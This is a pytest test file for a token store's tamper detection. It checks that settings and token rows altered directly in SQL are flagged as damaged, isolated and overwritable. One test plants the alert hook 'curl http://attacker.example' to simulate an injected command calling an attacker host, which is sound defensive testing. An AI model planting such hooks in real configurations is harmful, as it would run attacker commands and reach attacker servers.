"""One damaged row affects only its own record (issue 8, items 3 and 6), on real databases.

Rows are damaged from outside with SQL, as someone with write access to the database would: a
secret blob replaced, a plain column changed, columns swapped between rows. Settings rows then
drop out of the listings, raise DamagedRecordError by name and are named by `damaged_records`;
token rows read as Invalid; every other row reads as before, and each damaged record can be
overwritten. The fast reader (SQLite) gives the same answers.
"""

from __future__ import annotations

import dataclasses
import os
from collections.abc import Awaitable, Callable
from typing import Any

import pytest

from store_support import SQLITE_ONLY, Backend, reseal
from tokenpost.adapters.sql_store import SqlStore
from tokenpost.adapters.sqlite_reader import SqliteReader, open_sqlite_reader
from tokenpost.errors import DamagedRecordError
from tokenpost.i18n import translator
from tokenpost.ports import DamagedRecord, TokenRecord
from tokenpost.secret import Secret
from tokenpost.settings.model import (
    AlertSettings,
    AuthMethod,
    PopSetting,
    Preset,
    Provider,
    Security,
    SmtpSetting,
)
from tokenpost.tokens.state import Acquired, Invalid, NotAcquired

P1 = Provider("p1", Preset.MICROSOFT, "client-1", tenant="contoso.example")
P2 = Provider("p2", Preset.GOOGLE, "client-2", client_secret=Secret("CS-2"))
SMTP = SmtpSetting(
    server="127.0.0.1",
    port=587,
    security=Security.STARTTLS,
    timeout=30,
    sender_name="Scanner",
    sender_address="scanner@example.com",
    auth=AuthMethod.OAUTH2,
    provider="p1",
    account="scanner@example.com",
)


def pop(name: str, **changes: Any) -> PopSetting:
    base = PopSetting(
        name=name,
        server="pop.example",
        port=995,
        security=Security.TLS,
        check_interval=300,
        auth=AuthMethod.OAUTH2,
        deliver_to=f"/var/spool/{name}",
        provider="p1",
        account=f"{name}@example.com",
    )
    return dataclasses.replace(base, **changes)


POPS = [
    pop("a"),
    pop("b", auth=AuthMethod.PASSWORD, provider=None, password=Secret("PW-b")),
    pop("c", provider="p2"),
]
ALERTS = AlertSettings(recipients=("ops@example.com",), hook="notify")


def token(tag: str) -> Acquired:
    return Acquired(
        access_token=Secret(f"AT-{tag}"),
        expires_at=2_000_000_000.0,
        obtained_at=1_999_996_400.0,
        refresh_token=Secret(f"RT-{tag}"),
    )


TOKENS = {"smtp": token("smtp"), "pop:a": token("a"), "pop:c": token("c")}


async def fill(store: SqlStore) -> None:
    for provider in (P1, P2):
        await store.put_provider(provider)
    await store.put_smtp(SMTP)
    for setting in POPS:
        await store.put_pop(setting)
    await store.put_alerts(ALERTS)
    for setting_id, state in TOKENS.items():
        await store.save_token(setting_id, state, binding=f"b-{setting_id}", expected_version=0)


async def everything(store: SqlStore | SqliteReader) -> dict[str, object]:
    """Every answer the store gives, with errors as their messages."""

    async def answer(read: Callable[[], Awaitable[object]]) -> object:
        try:
            return await read()
        except DamagedRecordError as error:
            return ("damaged", str(error))

    def get_provider(name: str) -> Callable[[], Awaitable[object]]:
        return lambda: store.get_provider(name)

    def get_pop(name: str) -> Callable[[], Awaitable[object]]:
        return lambda: store.get_pop(name)

    found: dict[str, object] = {
        "damaged": await store.damaged_records(),
        "providers": await store.list_providers(),
        "pops": await store.list_pop(),
        "smtp": await answer(store.get_smtp),
        "alerts": await answer(store.get_alerts),
    }
    for name in ("p1", "p2"):
        found[f"provider:{name}"] = await answer(get_provider(name))
    for name in ("a", "b", "c"):
        found[f"pop:{name}"] = await answer(get_pop(name))
    for setting_id in ("smtp", "pop:a", "pop:b", "pop:c"):
        record = await store.load_token(setting_id)
        found[f"token:{setting_id}"] = dataclasses.replace(record, updated_at=0.0)
    return found


def assert_only_changed(
    before: dict[str, object], after: dict[str, object], keys: set[str]
) -> None:
    changed = {key for key in before if before[key] != after[key]}
    assert changed == keys


# --- one damaged settings row -------------------------------------------------------------------


@pytest.mark.parametrize("resealed", [False, True], ids=["changed", "unreadable"])
async def test_a_pop_password_blob_that_does_not_decrypt(
    store: SqlStore, backend: Backend, resealed: bool
) -> None:
    await fill(store)
    before = await everything(store)
    backend.execute("UPDATE pop SET password = ? WHERE name = 'b'", (os.urandom(40),))
    if resealed:  # authentic, yet the blob does not decrypt: the codec's check, not the MAC's
        reseal(backend, "pop", "name", "b")
    after = await everything(store)
    assert_only_changed(before, after, {"damaged", "pops", "pop:b"})
    assert [p.name for p in await store.list_pop()] == ["a", "c"]
    with pytest.raises(DamagedRecordError) as caught:
        await store.get_pop("b")
    message = str(caught.value)
    why = "password: the encrypted value does not authenticate" if resealed else "outside"
    assert why in message
    assert "'tokenpost pop add b' and all its options" in message
    assert "'tokenpost pop remove b'" in message
    assert "PW-b" not in message
    assert await store.damaged_records() == [DamagedRecord("pop:b", caught.value.text)]


async def test_a_damaged_provider_row(store: SqlStore, backend: Backend) -> None:
    await fill(store)
    before = await everything(store)
    backend.execute("UPDATE providers SET client_id = 'attacker' WHERE name = 'p2'")
    after = await everything(store)
    assert_only_changed(before, after, {"damaged", "providers", "provider:p2"})
    assert await store.list_providers() == [P1]
    (damaged,) = await store.damaged_records()
    assert damaged.record_id == "provider:p2"
    assert "'tokenpost provider add p2' and all its options" in str(damaged.reason)
    assert await store.get_pop("c") == POPS[2]  # its settings themselves are intact


async def test_a_damaged_alerts_row(store: SqlStore, backend: Backend) -> None:
    await fill(store)
    before = await everything(store)
    backend.execute("UPDATE alerts SET hook = 'curl http://attacker.example'")
    after = await everything(store)
    assert_only_changed(before, after, {"damaged", "alerts"})
    with pytest.raises(DamagedRecordError, match="'tokenpost alerts clear'"):
        await store.get_alerts()
    assert [d.record_id for d in await store.damaged_records()] == ["alerts"]
    await store.put_alerts(AlertSettings())  # `alerts clear`
    assert await store.get_alerts() == AlertSettings()
    assert await store.damaged_records() == []


async def test_damaged_settings_are_overwritten_and_removed(
    store: SqlStore, backend: Backend
) -> None:
    await fill(store)
    backend.execute("UPDATE pop SET password = ? WHERE name = 'b'", (b"x" * 40,))
    backend.execute("UPDATE pop SET port = 1 WHERE name = 'c'")
    backend.execute("UPDATE providers SET tenant = 'other' WHERE name = 'p1'")
    backend.execute("UPDATE smtp SET timeout = 1")
    assert [d.record_id for d in await store.damaged_records()] == [
        "smtp",
        "pop:b",
        "pop:c",
        "provider:p1",
    ]
    await store.put_pop(POPS[1])
    await store.delete_pop("c")
    await store.put_provider(P1)
    await store.put_smtp(SMTP)
    assert await store.damaged_records() == []
    assert await store.list_pop() == POPS[:2]
    assert (await store.load_token("pop:c")).state == NotAcquired()  # removed with its setting
    assert (await store.load_token("pop:a")).state == TOKENS["pop:a"]


# --- the plain columns are authenticated (item 6) -----------------------------------------------


async def test_security_changed_to_none_is_refused(store: SqlStore, backend: Backend) -> None:
    await fill(store)
    before = await everything(store)
    backend.execute("UPDATE smtp SET security = 'none'")
    with pytest.raises(DamagedRecordError) as caught:
        await store.get_smtp()
    message = str(caught.value)
    assert "setting smtp in the store was changed outside tokenpost" in message
    assert "set it again with 'tokenpost smtp set' and all its options" in message
    assert_only_changed(before, await everything(store), {"damaged", "smtp"})


async def test_swapped_pop_rows_are_both_damaged(store: SqlStore, backend: Backend) -> None:
    # Every column but the name (the primary key) moves to the other row, MAC included: a MAC
    # made for one row does not authenticate another.
    await fill(store)
    await store.put_pop(pop("d"))
    before = await everything(store)
    columns = [c for (c,) in backend.columns("pop") if c != "name"]
    rows = {name: backend.row("pop", "name", name) for name in ("a", "d")}
    for name, other in (("a", "d"), ("d", "a")):
        assignments = ", ".join(f"{column} = ?" for column in columns)
        values = tuple(rows[other][column] for column in columns)
        backend.execute(f"UPDATE pop SET {assignments} WHERE name = ?", (*values, name))  # noqa: S608
    after = await everything(store)
    assert_only_changed(before, after, {"damaged", "pops", "pop:a"})
    assert [d.record_id for d in await store.damaged_records()] == ["pop:a", "pop:d"]
    assert [p.name for p in await store.list_pop()] == ["b", "c"]


async def test_a_row_carrying_another_rows_mac_is_refused(
    store: SqlStore, backend: Backend
) -> None:
    # Two rows identical but for the primary key: one's MAC does not authenticate the other.
    await store.put_provider(P1)
    await store.put_provider(dataclasses.replace(P1, name="twin"))
    (mac,) = backend.execute("SELECT mac FROM providers WHERE name = 'p1'")[0]
    backend.execute("UPDATE providers SET mac = ? WHERE name = 'twin'", (mac,))
    assert await store.list_providers() == [P1]
    backend.execute("UPDATE providers SET mac = NULL WHERE name = 'p1'")
    assert await store.list_providers() == []
    assert "changed outside" in str((await store.damaged_records())[0].reason)


# --- damaged token rows --------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("column", "value"),
    [
        ("secrets", os.urandom(60)),
        ("public", '{"@type": "acquired"}'),
        ("binding", "b-other"),
        ("state", "invalid"),
        ("updated_at", 1.5),
        ("mac", None),
    ],
)
async def test_a_damaged_token_reads_as_invalid_and_is_overwritten(
    store: SqlStore, backend: Backend, column: str, value: object
) -> None:
    await fill(store)
    before = await everything(store)
    backend.execute(f"UPDATE tokens SET {column} = ? WHERE setting_id = 'pop:a'", (value,))  # noqa: S608
    after = await everything(store)
    assert_only_changed(before, after, {"token:pop:a"})
    record = await store.load_token("pop:a")
    assert isinstance(record.state, Invalid)
    reason = str(record.state.reason)
    assert "token of pop:a in the store was changed outside tokenpost" in reason
    assert "'tokenpost token delete pop:a', then 'tokenpost token get pop:a'" in reason
    assert "AT-a" not in repr(record)
    assert record.version == 1
    assert record.binding == ("b-other" if column == "binding" else "b-pop:a")
    # `token delete` / `token get` overwrite it with the usual compare-and-set.
    saved = await store.save_token("pop:a", NotAcquired(), binding="b-new", expected_version=1)
    assert await store.load_token("pop:a") == saved
    assert (await store.load_token("pop:c")).state == TOKENS["pop:c"]


async def test_all_tokens_read_at_once_as_each_one_alone(store: SqlStore, backend: Backend) -> None:
    await fill(store)
    backend.execute("UPDATE tokens SET secrets = ? WHERE setting_id = 'pop:a'", (b"y" * 40,))
    backend.execute("UPDATE tokens SET binding = 'b-other' WHERE setting_id = 'smtp'")
    records = await store.load_tokens()
    assert [r.setting_id for r in records] == ["pop:a", "pop:c", "smtp"]
    assert records == [await store.load_token(r.setting_id) for r in records]
    assert [type(r.state) for r in records] == [Invalid, Acquired, Invalid]


@SQLITE_ONLY
async def test_a_token_whose_version_is_not_a_number_is_overwritten(
    store: SqlStore, backend: Backend
) -> None:
    await fill(store)
    backend.execute("UPDATE tokens SET version = 'x' WHERE setting_id = 'smtp'")
    record = await store.load_token("smtp")
    assert isinstance(record.state, Invalid)
    assert record.version == 0
    await store.save_token("smtp", token("new"), binding="b", expected_version=0)
    assert (await store.load_token("smtp")).state == token("new")


async def test_a_first_write_still_loses_to_an_intact_row(store: SqlStore) -> None:
    await fill(store)
    from tokenpost.errors import ConflictError

    with pytest.raises(ConflictError):
        await store.save_token("smtp", token("late"), binding="b", expected_version=0)
    assert (await store.load_token("smtp")).state == TOKENS["smtp"]


# --- the fast reader gives the same answers -------------------------------------------------------


@SQLITE_ONLY
async def test_the_fast_reader_gives_the_same_answers(store: SqlStore, backend: Backend) -> None:
    await fill(store)
    backend.execute("UPDATE pop SET password = ? WHERE name = 'b'", (os.urandom(40),))
    backend.execute("UPDATE providers SET client_id = 'x' WHERE name = 'p2'")
    backend.execute("UPDATE alerts SET hook = 'x'")
    backend.execute("UPDATE tokens SET secrets = ? WHERE setting_id = 'pop:a'", (b"y" * 40,))
    backend.execute("UPDATE smtp SET security = 'none'")
    reader = open_sqlite_reader(backend.home)
    assert reader is not None
    try:
        full, fast = await everything(store), await everything(reader)
        assert await reader.load_tokens() == await store.load_tokens()
    finally:
        await reader.close()
    assert fast == full
    damaged = fast["damaged"]
    assert isinstance(damaged, list)
    assert [d.record_id for d in damaged] == ["smtp", "pop:b", "provider:p2", "alerts"]
    record = fast["token:pop:a"]
    assert isinstance(record, TokenRecord)
    assert isinstance(record.state, Invalid)


async def test_a_damaged_record_in_german(store: SqlStore, backend: Backend) -> None:
    await fill(store)
    backend.execute("UPDATE pop SET port = 110 WHERE name = 'a'")
    (damaged,) = await store.damaged_records()
    german = damaged.reason.translate(translator("de").gettext)
    assert "außerhalb von tokenpost geändert" in german
    assert "'tokenpost pop add a'" in german
    assert "'tokenpost pop remove a'" in german
